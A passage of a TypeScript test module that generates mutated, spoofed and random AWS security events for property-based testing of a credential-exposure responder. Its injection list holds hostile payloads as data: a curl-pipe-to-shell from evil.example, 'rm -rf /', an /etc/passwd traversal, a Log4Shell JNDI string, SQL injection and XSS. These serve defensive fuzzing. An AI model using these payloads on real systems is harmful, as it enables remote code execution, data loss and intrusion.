/**
 * Generators for the property suites: every published event under test/fixtures/events, mutated
 * (fields removed, retyped, oversized, duplicated, swapped, confused with look-alike values,
 * JSON text with repeated keys), fully random JSON, spoofed sources, and plan contexts.
 * Everything is data, so fast-check can shrink it and print the event that failed.
 */
import { readdirSync, readFileSync } from "node:fs";
import fc from "fast-check";
import type { Exposure, Intent, Principal, Severity, SourceName } from "../../../lambdas/core/exposure.js";
import type { Incident, IncidentStatus } from "../../../lambdas/core/incident.js";
import type { PlanContext, PrincipalFacts, ResponseMode } from "../../../lambdas/core/plan.js";
import { DRILL_DETAIL_TYPE, DRILL_SOURCE } from "../../../lambdas/core/sources/drill.js";
import { SAMPLE_ACCESS_KEY_ID } from "../../../lambdas/core/sources/guardduty.js";
import { SIGNAL_SOURCES } from "../../../lambdas/core/sources/registry.js";

// ---------------------------------------------------------------------------------------------
// Base events

export interface BaseEvent {
  /** Fixture path under test/fixtures/events, or "(drill)" for the synthetic drill event. */
  readonly name: string;
  readonly event: unknown;
}

const EVENTS_DIR = new URL("../../fixtures/events/", import.meta.url);

/** Every published example, as parsed JSON. */
export const FIXTURES: readonly BaseEvent[] = readdirSync(EVENTS_DIR, { recursive: true, encoding: "utf8" })
  .filter((file) => file.endsWith(".json"))
  .sort()
  .map((name) => ({ name, event: JSON.parse(readFileSync(new URL(name, EVENTS_DIR), "utf8")) as unknown }));

/** A drill event as the CLI sends it (drills have no published original). */
const DRILL_EXAMPLE: BaseEvent = {
  name: "(drill)",
  event: {
    version: "0",
    id: "drill-20261128T120000Z-1a2b3c",
    "detail-type": DRILL_DETAIL_TYPE,
    source: DRILL_SOURCE,
    account: "123456789012",
    time: "2026-11-28T12:00:00Z",
    region: "us-east-1",
    resources: [],
    detail: {
      accessKeyId: "AKIAIOSFODNN7EXAMPLE",
      userName: "lkr-drill-20261128T120000Z-1a2b3c",
      drillId: "20261128T120000Z-1a2b3c",
    },
  },
};

export const BASE_EVENTS: readonly BaseEvent[] = [...FIXTURES, DRILL_EXAMPLE];

// ---------------------------------------------------------------------------------------------
// JSON trees

type Segment = string | number;
type Path = readonly Segment[];

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}

function formatPath(path: Path): string {
  return path.map((s) => (typeof s === "number" ? `[${s}]` : JSON.stringify(s))).join(".") || "(root)";
}

/** Every path below the root, depth first. */
function pathsOf(value: unknown, prefix: Path = []): Path[] {
  const out: Path[] = [];
  const entries: [Segment, unknown][] = Array.isArray(value)
    ? value.map((v, i): [Segment, unknown] => [i, v])
    : isRecord(value)
      ? Object.entries(value)
      : [];
  for (const [key, child] of entries) {
    const path = [...prefix, key];
    out.push(path, ...pathsOf(child, path));
  }
  return out;
}

/** Every string value (not object key) anywhere in the value. */
export function stringsIn(value: unknown, out = new Set<string>()): Set<string> {
  if (typeof value === "string") out.add(value);
  else if (Array.isArray(value)) for (const v of value) stringsIn(v, out);
  else if (isRecord(value)) for (const v of Object.values(value)) stringsIn(v, out);
  return out;
}

function getAt(root: unknown, path: Path): unknown {
  let node = root;
  for (const segment of path) {
    if (Array.isArray(node) && typeof segment === "number") node = node[segment];
    else if (isRecord(node) && typeof segment === "string") node = node[segment];
    else return undefined;
  }
  return node;
}

/** Sets an own property, as JSON.parse would (so `__proto__` stays data, not a prototype). */
function setOwn(container: Record<string, unknown> | unknown[], key: Segment, value: unknown): void {
  Object.defineProperty(container, key, { value, writable: true, enumerable: true, configurable: true });
}

function parentOf(root: unknown, path: Path): { parent: unknown; key: Segment } | undefined {
  const key = path[path.length - 1];
  if (key === undefined) return undefined;
  return { parent: getAt(root, path.slice(0, -1)), key };
}

function setAt(root: unknown, path: Path, value: unknown): void {
  const at = parentOf(root, path);
  if (at && (Array.isArray(at.parent) || isRecord(at.parent))) setOwn(at.parent, at.key, value);
}

function removeAt(root: unknown, path: Path): void {
  const at = parentOf(root, path);
  if (!at) return;
  if (Array.isArray(at.parent) && typeof at.key === "number") at.parent.splice(at.key, 1);
  else if (isRecord(at.parent)) delete at.parent[String(at.key)];
}

// ---------------------------------------------------------------------------------------------
// Hostile values

const KEY_CHARS = [..."ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"];

/** A well-formed access key id: AKIA/ASIA and 16 upper-case letters or digits. */
export const accessKeyIdArb: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom("AKIA", "ASIA"),
    fc.string({ unit: fc.constantFrom(...KEY_CHARS), minLength: 16, maxLength: 16 }),
  )
  .map(([prefix, rest]) => prefix + rest);

/** Ways to bend a good key id into one of the wrong shape. */
const KEY_BENDS: Readonly<Record<string, (key: string) => string>> = {
  lowercase: (k) => k.toLowerCase(),
  short: (k) => k.slice(0, 19),
  long: (k) => `${k}A`,
  leadingSpace: (k) => ` ${k}`,
  trailingNewline: (k) => `${k}\n`,
  trailingNul: (k) => `${k}\u0000`,
  zeroWidth: (k) => `${k.slice(0, 10)}\u200b${k.slice(10)}`,
  cyrillicA: (k) => `\u0410${k.slice(1)}`,
  fullwidth: (k) => [...k].map((c) => String.fromCodePoint((c.codePointAt(0) ?? 0) + 0xfee0)).join(""),
  userIdPrefix: (k) => `AIDA${k.slice(4)}`,
  roleIdPrefix: (k) => `AROA${k.slice(4)}`,
  dashed: (k) => `${k.slice(0, 4)}-${k.slice(4)}`,
  embedded: (k) => `key=${k}`,
  jsonWrapped: (k) => JSON.stringify({ accessKeyId: k }),
  masked: (k) => `${k.slice(0, 4)}...${k.slice(-4)}`,
};

const WRONG_SHAPE_KEYS: readonly string[] = [
  SAMPLE_ACCESS_KEY_ID,
  SAMPLE_ACCESS_KEY_ID.toLowerCase(),
  "AKIAXXXXXXXXXX",
  "ACCESS_KEY_ID_HERE",
  "EXAMPLE_KEY_ID",
  "AKIA-not-a-key",
  "AKIA",
  "ASIA",
  "",
  " ",
];

export const wrongShapeKeyArb: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...WRONG_SHAPE_KEYS),
  fc.tuple(accessKeyIdArb, fc.constantFrom(...Object.keys(KEY_BENDS))).map(([key, bend]) => {
    const f = KEY_BENDS[bend];
    return f ? f(key) : key;
  }),
);

/** Names an attacker might hope the code treats as more than data. */
const PROTOTYPE_NAMES: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
];

const INJECTIONS: readonly string[] = [
  "'; DROP TABLE incidents; --",
  '" OR 1=1 --',
  "$(curl -s http://evil.example/x | sh)",
  "`reboot`",
  "a; rm -rf / #",
  "x\r\nX-Injected: yes\r\n\r\n",
  "line1\nline2\u2028line3",
  "\u001b[2J\u001b[31mRED\u001b[0m",
  "\u001b]0;owned\u0007",
  '{"accessKeyId":"AKIAIOSFODNN7EXAMPLE"}',
  '"},"accessKeyId":"AKIAIOSFODNN7EXAMPLE","x":{"',
  "../../../../etc/passwd",
  "<script>alert(1)</script>",
  "%s%s%n%x",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, meant literally
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "\u202eevil\u202c",
  "\u0000",
  "\ud800",
  "null",
  "undefined",
  "true",
  "NaN",
  "-0",
  "1e309",
  "[object Object]",
  "arn:aws:iam::123456789012:user/alice",
  "<root_account>",
];

const LONG_UNITS = ["A", "é", "𝔸", "\u0000", "'; --", "AKIAIOSFODNN7EXAMPLE", "👩‍👩‍👧‍👦"];

/** 257 to ~70,000 characters: past every length limit the schemas set. */
const longStringArb: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...LONG_UNITS), fc.integer({ min: 257, max: 70_000 }))
  .map(([unit, length]) => unit.repeat(Math.ceil(length / unit.length)));

export const hostileStringArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 1, arbitrary: fc.constantFrom(...PROTOTYPE_NAMES) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 12 }) },
  { weight: 1, arbitrary: longStringArb },
);

/** Anything that is not what the field should be: other types, hostile strings, key ids, junk trees. */
export const junkArb: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileStringArb },
  { weight: 2, arbitrary: accessKeyIdArb },
  { weight: 2, arbitrary: wrongShapeKeyArb },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.constantFrom(0, -1, 10.5, 1e308, -0, Number.MAX_SAFE_INTEGER + 2) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 2, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.constant(undefined) },
  { weight: 1, arbitrary: fc.array(hostileStringArb, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom({}, [], [null], { "": "" }) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
);

/** Junk that survives JSON.stringify (for text-level mutations). */
const jsonJunkArb: fc.Arbitrary<unknown> = fc.oneof(
  hostileStringArb,
  accessKeyIdArb,
  wrongShapeKeyArb,
  fc.jsonValue({ maxDepth: 2 }),
);

// ---------------------------------------------------------------------------------------------
// Field-aware look-alikes: the values a field takes elsewhere, case/space variants, prototype names

function keysAndStrings(value: unknown, byKey: Map<string, Set<unknown>>, keys: Set<string>): void {
  if (Array.isArray(value)) for (const v of value) keysAndStrings(v, byKey, keys);
  else if (isRecord(value))
    for (const [k, v] of Object.entries(value)) {
      keys.add(k);
      if (typeof v !== "object" || v === null) {
        const seen = byKey.get(k) ?? new Set<unknown>();
        seen.add(v);
        byKey.set(k, seen);
      }
      keysAndStrings(v, byKey, keys);
    }
}

const VALUES_BY_KEY = new Map<string, Set<unknown>>();
const KEY_NAMES = new Set<string>();
for (const { event } of BASE_EVENTS) keysAndStrings(event, VALUES_BY_KEY, KEY_NAMES);

/** Every object key the published events use: random objects built from these reach deep into the schemas. */
const VOCABULARY: readonly string[] = [...KEY_NAMES].sort();
/** Every leaf value the published events hold. */
const LEAF_POOL: readonly unknown[] = [...new Set([...VALUES_BY_KEY.values()].flatMap((s) => [...s]))];

/** Source and detail-type are left to the spoofing property. */
const ENUM_FIELDS = [
  "eventTypeCode",
  "eventTypeCategory",
  "service",
  "userType",
  "type",
  "resourceType",
  "eventName",
  "status",
  "check-name",
  "language",
  "backupEvent",
  "errorCode",
  "actionType",
];
const KEY_FIELDS = ["accessKeyId", "entityValue", "Access Key ID", "publicKey"];
const NAME_FIELDS = ["userName", "User Name (IAM or Root)", "principalId", "arn"];
const ACCOUNT_FIELDS = ["account", "accountId", "affectedAccount", "recipientAccountId"];

function observed(fields: readonly string[]): unknown[] {
  return fields.flatMap((f) => [...(VALUES_BY_KEY.get(f) ?? [])]);
}

function variantsOf(values: readonly unknown[]): unknown[] {
  return values.flatMap((v) =>
    typeof v === "string" ? [v, v.toLowerCase(), v.toUpperCase(), ` ${v}`, `${v} `, `${v}\n`] : [v],
  );
}

function uniq(values: readonly unknown[]): readonly unknown[] {
  return [...new Set(values)];
}

/** For a field name: the values that look right but may not be. */
const LOOK_ALIKES: ReadonlyMap<string, readonly unknown[]> = new Map<string, readonly unknown[]>([
  ...ENUM_FIELDS.map((f): [string, readonly unknown[]] => [
    f,
    uniq([...variantsOf(observed([f])), ...PROTOTYPE_NAMES, "", null, 1, true]),
  ]),
  ...KEY_FIELDS.map((f): [string, readonly unknown[]] => [
    f,
    uniq([...observed(KEY_FIELDS).filter((v) => typeof v === "string"), ...WRONG_SHAPE_KEYS, null, 0]),
  ]),
  ...NAME_FIELDS.map((f): [string, readonly unknown[]] => [
    f,
    uniq([...variantsOf(observed([f])), ...PROTOTYPE_NAMES, ...INJECTIONS.slice(0, 8), "", null, 42]),
  ]),
  ...ACCOUNT_FIELDS.map((f): [string, readonly unknown[]] => [
    f,
    ["123456789012", "210987654321", "12345678901", "1234567890123", " 123456789012", 123456789012, "", null],
  ]),
  ["sample", [true, "true", 1, false, null, "false", {}]],
  ["severity", [0, 10, 10.0001, -0.1, 7, 6.9999, "8", null, Number.NaN, Number.POSITIVE_INFINITY]],
]);
const LOOK_ALIKE_FIELDS = new Set(LOOK_ALIKES.keys());

const FOCUS_CONTAINERS = new Set([
  "accessKeyDetails",
  "affectedEntities",
  "check-item-detail",
  "userIdentity",
  "requestParameters",
  "responseElements",
  "eventMetadata",
  "accessKey",
]);

/** Paths where a parser looks: key ids, names, types, accounts, and the containers around them. */
function isFocus(path: Path): boolean {
  const last = path[path.length - 1];
  if (typeof last === "string" && (LOOK_ALIKE_FIELDS.has(last) || FOCUS_CONTAINERS.has(last))) return true;
  return path.some((s) => typeof s === "string" && FOCUS_CONTAINERS.has(s));
}

// ---------------------------------------------------------------------------------------------
// Mutations

/** Which path a mutation hits: an index into the focus paths or into all paths. */
interface Target {
  readonly focus: boolean;
  readonly index: number;
}

type Mutation =
  | { readonly op: "remove"; readonly at: Target }
  | { readonly op: "replace"; readonly at: Target; readonly value: unknown }
  | { readonly op: "look-alike"; readonly at: number; readonly choice: number }
  | { readonly op: "drop-field"; readonly at: number }
  | { readonly op: "insert"; readonly at: Target; readonly key: string; readonly value: unknown }
  | { readonly op: "duplicate"; readonly at: Target; readonly copies: number }
  | { readonly op: "transplant"; readonly at: Target; readonly from: number }
  | { readonly op: "oversize"; readonly at: Target; readonly size: number };

const targetArb: fc.Arbitrary<Target> = fc.record({
  focus: fc.oneof({ weight: 2, arbitrary: fc.constant(true) }, { weight: 1, arbitrary: fc.constant(false) }),
  index: fc.nat({ max: 10_000 }),
});

const keyNameArb: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...VOCABULARY),
  fc.constantFrom(...PROTOTYPE_NAMES),
  hostileStringArb,
);

const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ op: fc.constant("remove" as const), at: targetArb }) },
  { weight: 4, arbitrary: fc.record({ op: fc.constant("replace" as const), at: targetArb, value: junkArb }) },
  {
    weight: 4,
    arbitrary: fc.record({
      op: fc.constant("look-alike" as const),
      at: fc.nat({ max: 10_000 }),
      choice: fc.nat({ max: 10_000 }),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({ op: fc.constant("drop-field" as const), at: fc.nat({ max: 10_000 }) }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      op: fc.constant("insert" as const),
      at: targetArb,
      key: keyNameArb,
      value: junkArb,
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      op: fc.constant("duplicate" as const),
      at: targetArb,
      copies: fc.integer({ min: 1, max: 60 }),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      op: fc.constant("transplant" as const),
      at: targetArb,
      from: fc.nat({ max: 10_000 }),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant("oversize" as const),
      at: targetArb,
      size: fc.integer({ min: 2, max: 2_000 }),
    }),
  },
);

/** Mutants stay under about this many characters, so a run cannot exhaust memory. */
const SIZE_BUDGET = 400_000;

/** Approximate size in characters, counting no further than `limit`. */
function sizeOf(value: unknown, limit = SIZE_BUDGET): number {
  let total = 0;
  const stack: unknown[] = [value];
  while (stack.length > 0 && total <= limit) {
    const node = stack.pop();
    if (typeof node === "string") total += node.length + 2;
    else if (Array.isArray(node)) {
      total += 2;
      stack.push(...node);
    } else if (isRecord(node)) {
      for (const [k, v] of Object.entries(node)) {
        total += k.length + 4;
        stack.push(v);
      }
    } else total += 8;
  }
  return total;
}

/** How many copies of `node` still fit in the budget, at most `wanted`. */
function copiesThatFit(root: unknown, node: unknown, wanted: number): number {
  const room = SIZE_BUDGET - sizeOf(root);
  return Math.max(0, Math.min(wanted, Math.floor(room / Math.max(sizeOf(node), 1))));
}

function choose(root: unknown, target: Target): Path | undefined {
  const all = pathsOf(root);
  const focus = target.focus ? all.filter(isFocus) : [];
  const pool = focus.length > 0 ? focus : all;
  return pool[target.index % Math.max(pool.length, 1)];
}

function oversized(root: unknown, value: unknown, size: number): unknown {
  if (typeof value === "string")
    return value.repeat(copiesThatFit(root, value, Math.ceil((size * 40) / Math.max(value.length, 1))));
  if (Array.isArray(value)) {
    const length = copiesThatFit(root, value, Math.ceil(size / Math.max(value.length, 1))) * value.length;
    return Array.from({ length }, (_, i) => structuredClone(value[i % value.length]));
  }
  if (isRecord(value)) {
    const copy: Record<string, unknown> = { ...value };
    for (let i = 0; i < Math.min(size, 500); i++)
      copy[`junk${i}`] = i % 2 === 0 ? "x".repeat(i) : { nested: [i] };
    return copy;
  }
  if (typeof value === "number") return value * 1e300 * size;
  return "Z".repeat(size * 40);
}

/** Applies one mutation in place and says what it did (for the counterexample). */
/** Paths of the fields a parser reads: key ids, names, types, accounts, flags. */
function lookAlikePaths(root: unknown): Path[] {
  return pathsOf(root).filter((p) => {
    const last = p[p.length - 1];
    return typeof last === "string" && LOOK_ALIKE_FIELDS.has(last);
  });
}

function applyMutation(root: unknown, mutation: Mutation): string {
  if (mutation.op === "drop-field") {
    const paths = lookAlikePaths(root);
    const path = paths[mutation.at % Math.max(paths.length, 1)];
    if (path === undefined) return "drop-field: no such field";
    removeAt(root, path);
    return `drop-field ${formatPath(path)}`;
  }
  if (mutation.op === "look-alike") {
    const paths = lookAlikePaths(root);
    const path = paths[mutation.at % Math.max(paths.length, 1)];
    const field = path?.[path.length - 1];
    const pool = typeof field === "string" ? LOOK_ALIKES.get(field) : undefined;
    if (path === undefined || pool === undefined) return "look-alike: no such field";
    const value = pool[mutation.choice % pool.length];
    setAt(root, path, structuredClone(value));
    return `look-alike ${formatPath(path)} = ${JSON.stringify(value)}`;
  }
  const path = choose(root, mutation.at);
  if (path === undefined) return `${mutation.op}: nothing to hit`;
  const where = formatPath(path);
  switch (mutation.op) {
    case "remove":
      removeAt(root, path);
      return `remove ${where}`;
    case "replace":
      // A copy: generated values are shared between runs and shrinks, and later mutations edit in place.
      setAt(root, path, structuredClone(mutation.value));
      return `replace ${where}`;
    case "insert": {
      const node = getAt(root, path);
      const container = Array.isArray(node) || isRecord(node) ? node : parentOf(root, path)?.parent;
      const value = structuredClone(mutation.value);
      if (Array.isArray(container)) container.push(value);
      else if (isRecord(container)) setOwn(container, mutation.key, value);
      return `insert ${JSON.stringify(mutation.key).slice(0, 60)} near ${where}`;
    }
    case "duplicate": {
      const node = getAt(root, path);
      const at = parentOf(root, path);
      const list = Array.isArray(node) && node.length > 0 ? node : Array.isArray(at?.parent) ? at.parent : [];
      const original = list === node ? list[0] : node;
      const copies = copiesThatFit(root, original, mutation.copies);
      for (let i = 0; i < copies; i++) list.push(structuredClone(original));
      return `duplicate ${where} x${copies}`;
    }
    case "transplant": {
      const all = pathsOf(root);
      const from = all[mutation.from % all.length];
      const value = from === undefined ? undefined : getAt(root, from);
      if (from === undefined || copiesThatFit(root, value, 1) === 0) return "transplant: nothing that fits";
      setAt(root, path, structuredClone(value));
      return `transplant ${formatPath(from)} -> ${where}`;
    }
    case "oversize":
      setAt(root, path, oversized(root, getAt(root, path), mutation.size));
      return `oversize ${where} (${mutation.size})`;
  }
}

/** A repeated key in the JSON text of one object; JSON.parse keeps the last occurrence. */
interface RepeatedKey {
  readonly at: number;
  readonly key: number;
  readonly value: unknown;
  readonly junkLast: boolean;
}

/** JSON text of `value` in which the object at `target` carries `key` twice. */
function stringifyWithRepeatedKey(
  value: unknown,
  target: Path,
  key: string,
  junk: unknown,
  junkLast: boolean,
  path: Path = [],
): string {
  if (Array.isArray(value))
    return `[${value.map((v, i) => stringifyWithRepeatedKey(v, target, key, junk, junkLast, [...path, i])).join(",")}]`;
  if (isRecord(value)) {
    const members = Object.entries(value).map(
      ([k, v]) =>
        `${JSON.stringify(k)}:${stringifyWithRepeatedKey(v, target, key, junk, junkLast, [...path, k])}`,
    );
    if (path.length === target.length && path.every((s, i) => s === target[i])) {
      const extra = `${JSON.stringify(key)}:${JSON.stringify(junk) ?? "null"}`;
      if (junkLast) members.push(extra);
      else members.unshift(extra);
    }
    return `{${members.join(",")}}`;
  }
  return JSON.stringify(value) ?? "null";
}

function withRepeatedKey(event: unknown, repeat: RepeatedKey): { text: string; note: string } {
  const objects: Path[] = [[], ...pathsOf(event).filter((p) => isRecord(getAt(event, p)))];
  const target = objects[repeat.at % objects.length] ?? [];
  const node = getAt(event, target);
  const keys = isRecord(node) ? Object.keys(node) : [];
  const key =
    keys[repeat.key % Math.max(keys.length, 1)] ?? VOCABULARY[repeat.key % VOCABULARY.length] ?? "x";
  const text = stringifyWithRepeatedKey(event, target, key, repeat.value, repeat.junkLast);
  const note = `repeat key ${JSON.stringify(key)} in ${formatPath(target)} (${repeat.junkLast ? "junk last: wins" : "junk first: loses"})`;
  return { text, note };
}

export interface MutatedEvent {
  readonly base: string;
  readonly applied: readonly string[];
  readonly event: unknown;
}

function mutate(base: BaseEvent, mutations: readonly Mutation[]): MutatedEvent {
  const event = structuredClone(base.event);
  const applied = mutations.map((m) => applyMutation(event, m));
  return { base: base.name, applied, event };
}

/** A published (or drill) event with one to six mutations. */
export const mutatedEventArb: fc.Arbitrary<MutatedEvent> = fc
  .tuple(fc.constantFrom(...BASE_EVENTS), fc.array(mutationArb, { minLength: 1, maxLength: 6 }))
  .map(([base, mutations]) => mutate(base, mutations));

const repeatedKeyArb: fc.Arbitrary<RepeatedKey> = fc.record({
  at: fc.nat({ max: 10_000 }),
  key: fc.nat({ max: 10_000 }),
  value: jsonJunkArb,
  junkLast: fc.boolean(),
});

/** A published event, maybe mutated, re-read from JSON text in which one object repeats a key. */
export const repeatedKeyEventArb: fc.Arbitrary<MutatedEvent & { readonly text: string }> = fc
  .tuple(
    fc.constantFrom(...BASE_EVENTS),
    fc.array(mutationArb, { maxLength: 2 }),
    fc.array(repeatedKeyArb, { minLength: 1, maxLength: 3 }),
  )
  .map(([base, mutations, repeats]) => {
    const mutated = mutate(base, mutations);
    let event: unknown = JSON.parse(JSON.stringify(mutated.event) ?? "null");
    let text = "";
    const applied = [...mutated.applied];
    for (const repeat of repeats) {
      const next = withRepeatedKey(event, repeat);
      text = next.text;
      applied.push(next.note);
      event = JSON.parse(text);
    }
    return { base: base.name, applied, event, text };
  });

// ---------------------------------------------------------------------------------------------
// Fully random events

const leafArb: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...LEAF_POOL) },
  { weight: 2, arbitrary: junkArb },
  { weight: 1, arbitrary: accessKeyIdArb },
);

/** Random trees whose keys are the ones published events use, so they get past the first checks. */
const vocabularyTreeArb: fc.Arbitrary<unknown> = fc.letrec<{
  node: unknown;
  list: unknown[];
  object: Record<string, unknown>;
}>((tie) => ({
  node: fc.oneof({ depthSize: "small", withCrossShrink: true }, leafArb, tie("list"), tie("object")),
  list: fc.array(tie("node"), { maxLength: 4 }),
  object: fc.dictionary(fc.constantFrom(...VOCABULARY), tie("node"), { maxKeys: 10 }),
})).object;

const REGISTERED = [...SIGNAL_SOURCES.map((s) => [s.source, s.detailType] as const)];

const OWN_DETAIL = Symbol("the base event's own detail");
const valid = <T>(value: T) =>
  fc.oneof({ weight: 8, arbitrary: fc.constant(value) }, { weight: 1, arbitrary: junkArb });

/**
 * An envelope of a registered source/detail-type (the base event's or another row's) around the
 * base's own detail, a random tree of published field names, or any value at all.
 */
export const randomKnownSourceEventArb: fc.Arbitrary<unknown> = fc
  .record({
    base: fc.constantFrom(...BASE_EVENTS),
    pair: fc.oneof(
      { weight: 2, arbitrary: fc.constant(undefined) },
      { weight: 1, arbitrary: fc.constantFrom(...REGISTERED) },
    ),
    version: valid("0"),
    id: fc.oneof({ weight: 8, arbitrary: fc.uuid() }, { weight: 1, arbitrary: junkArb }),
    account: fc.oneof(
      { weight: 6, arbitrary: fc.constant("123456789012") },
      { weight: 2, arbitrary: fc.stringMatching(/^\d{12}$/) },
      { weight: 1, arbitrary: junkArb },
    ),
    time: fc.oneof(
      { weight: 4, arbitrary: fc.date({ noInvalidDate: true }).map((d) => d.toISOString()) },
      { weight: 1, arbitrary: hostileStringArb },
      { weight: 1, arbitrary: junkArb },
    ),
    region: valid("us-east-1"),
    resources: fc.oneof(
      { weight: 4, arbitrary: fc.constant([]) },
      { weight: 1, arbitrary: fc.array(hostileStringArb, { maxLength: 3 }) },
      { weight: 1, arbitrary: junkArb },
    ),
    detail: fc.oneof(
      { weight: 3, arbitrary: fc.constant(OWN_DETAIL) },
      { weight: 2, arbitrary: vocabularyTreeArb },
      { weight: 1, arbitrary: fc.anything() },
    ),
    dropAccount: fc.boolean(),
  })
  .map(({ base, pair, dropAccount, account, detail, ...rest }) => {
    const own = isRecord(base.event) ? base.event : {};
    return {
      ...rest,
      source: pair?.[0] ?? own.source,
      "detail-type": pair?.[1] ?? own["detail-type"],
      ...(dropAccount ? {} : { account }),
      detail: detail === OWN_DETAIL ? structuredClone(own.detail) : detail,
    };
  });

/** Anything at all: JSON values, and non-JSON values (Maps, Dates, boxed values, null prototypes...). */
export const randomValueArb: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue(),
  fc.anything({
    withBigInt: true,
    withBoxedValues: true,
    withDate: true,
    withMap: true,
    withSet: true,
    withNullPrototype: true,
    withObjectString: true,
    withSparseArray: true,
    withTypedArray: true,
  }),
  vocabularyTreeArb,
);

// ---------------------------------------------------------------------------------------------
// Spoofed sources

/** Ways a custom event can dress up as an AWS one. */
const SPOOFS: Readonly<Record<string, (value: string) => string>> = {
  suffix: (s) => `${s}.fake`,
  prefix: (s) => `my.${s}`,
  upper: (s) => s.toUpperCase(),
  lower: (s) => s.toLowerCase(),
  leadingSpace: (s) => ` ${s}`,
  trailingSpace: (s) => `${s} `,
  trailingNewline: (s) => `${s}\n`,
  trailingNul: (s) => `${s}\u0000`,
  zeroWidth: (s) => `${s.slice(0, 3)}\u200b${s.slice(3)}`,
  cyrillicA: (s) => s.replace(/a/, "\u0430"),
  fullwidthDot: (s) => s.replace(/\./, "\uff0e"),
  dashForDot: (s) => s.replace(/\./g, "-"),
  doubleSpace: (s) => s.replace(/ /, "  "),
  nbsp: (s) => s.replace(/ /, "\u00a0"),
  customBus: (s) => `custom.${s}`,
  tab: (s) => s.replace(/ /, "\t"),
};

export interface SpoofedEvent {
  readonly base: string;
  readonly how: string;
  readonly event: Record<string, unknown>;
}

const spoofArb = fc.oneof(
  fc
    .constantFrom(...Object.keys(SPOOFS))
    .map((name) => ({ name, apply: SPOOFS[name] ?? ((s: string) => s) })),
  fc
    .tuple(fc.nat({ max: 64 }), fc.string({ unit: "binary", minLength: 1, maxLength: 3 }))
    .map(([at, text]) => ({
      name: `insert ${JSON.stringify(text)} at ${at}`,
      apply: (s: string) => `${s.slice(0, at % (s.length + 1))}${text}${s.slice(at % (s.length + 1))}`,
    })),
  fc.nat({ max: 64 }).map((at) => ({
    name: `delete char ${at}`,
    apply: (s: string) => s.slice(0, at % s.length) + s.slice((at % s.length) + 1),
  })),
);

function isRegistered(source: unknown, detailType: unknown): boolean {
  return REGISTERED.some(([s, d]) => s === source && d === detailType);
}

/**
 * A published or drill event whose source and/or detail-type imitate a registered one, or pair
 * one row's source with another row's detail-type. Never exactly a registered pair.
 */
export const spoofedEventArb: fc.Arbitrary<SpoofedEvent> = fc
  .record({
    base: fc.constantFrom(...BASE_EVENTS.filter((b) => isRecord(b.event))),
    field: fc.constantFrom("source", "detail-type", "both", "cross"),
    spoof: spoofArb,
    other: fc.constantFrom(...REGISTERED),
  })
  .map(({ base, field, spoof, other }) => {
    const event = structuredClone(base.event) as Record<string, unknown>;
    const source = String(event.source);
    const detailType = String(event["detail-type"]);
    if (field === "cross") {
      event["detail-type"] = other[1];
    } else {
      if (field !== "detail-type") event.source = spoof.apply(source);
      if (field !== "source") event["detail-type"] = spoof.apply(detailType);
    }
    const how = field === "cross" ? `detail-type ${JSON.stringify(other[1])}` : `${field}: ${spoof.name}`;
    return { base: base.name, how, event };
  })
  .filter(({ event }) => !isRegistered(event.source, event["detail-type"]));

// ---------------------------------------------------------------------------------------------
// Drill events

/** IAM user names: 1-64 of [\w+=,.@-]. */
const iamNameArb: fc.Arbitrary<string> = fc.stringMatching(/^[\w+=,.@-]{1,64}$/);

export const drillEventArb: fc.Arbitrary<{ event: Record<string, unknown>; userName: string }> = fc
  .record({
    accessKeyId: accessKeyIdArb,
    userName: fc.oneof(fc.constantFrom("alice", "lkr-drill-20261128T120000Z-1a2b3c"), iamNameArb),
    drillId: fc.stringMatching(/^[\w-]{1,40}$/),
    account: fc.stringMatching(/^\d{12}$/),
    region: fc.constantFrom("us-east-1", "eu-west-1"),
  })
  .map(({ accessKeyId, userName, drillId, account, region }) => ({
    userName,
    event: {
      version: "0",
      id: `drill-${drillId}`,
      "detail-type": DRILL_DETAIL_TYPE,
      source: DRILL_SOURCE,
      account,
      time: "2026-11-28T12:00:00Z",
      region,
      resources: [],
      detail: { accessKeyId, userName, drillId },
    },
  }));

// ---------------------------------------------------------------------------------------------
// Exposures and plan contexts

const SOURCES: readonly SourceName[] = ["health", "trusted-advisor", "guardduty", "cloudtrail", "drill"];
const INTENTS: readonly Intent[] = ["contain", "revoke-sessions", "notify", "recontain-if-open"];
const SEVERITIES: readonly Severity[] = ["low", "medium", "high", "critical"];
const STATUSES: readonly IncidentStatus[] = ["contained", "notified", "released", "resolved"];

/** True one time in four: the flags that forbid containment, so containment is common enough to check. */
const rarely: fc.Arbitrary<boolean> = fc.oneof(
  { weight: 1, arbitrary: fc.constant(true) },
  { weight: 3, arbitrary: fc.constant(false) },
);

/** A small pool so exposures, facts and exempt lists name the same principals often. */
const principalNameArb: fc.Arbitrary<string> = fc.oneof(
